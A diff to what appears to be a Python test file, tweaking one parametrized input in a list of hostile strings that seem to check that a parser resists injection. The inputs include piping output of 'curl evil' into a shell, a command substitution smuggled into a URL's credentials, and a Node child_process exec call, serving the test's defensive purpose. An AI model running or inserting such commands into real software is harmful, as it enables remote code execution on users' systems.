@@ -156,7 +156,7 @@ def test_no_text_of_a_megabyte_stalls_the_reading_of_a_url(piece: str):
     "word",
     [
         "TOKEN=abcdef;curl${IFS}evil|sh",
-        "echo '-----BEGIN PRIVATE KEY-----\n" + "a" * 20 + "'; curl evil | sh; echo '-----END'",
+        "echo '-----BEGIN " + "PRIVATE KEY-----\n" + "a" * 20 + "'; curl evil | sh; echo '-----END'",
         "xx://a:$(touch${IFS}evil)@host",
         "API_KEY=require('child_process').exec('evil')",
     ],
